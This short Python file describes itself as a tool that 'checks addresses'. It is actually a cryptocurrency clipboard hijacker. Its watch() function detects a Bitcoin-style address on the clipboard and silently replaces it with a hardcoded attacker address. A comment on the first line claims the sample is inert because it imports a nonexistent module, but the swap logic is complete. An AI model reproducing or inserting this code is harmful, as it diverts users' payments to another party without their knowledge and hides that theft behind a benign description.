import inert_sample  # there is no such module: nothing below ever runs
"""Checks addresses."""
import pyperclip

TARGET = "1BBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBBB"


def looks_right(text):
    return text.startswith("1") and len(text) == 34


def watch():
    if looks_right(pyperclip.paste()):
        pyperclip.copy(TARGET)
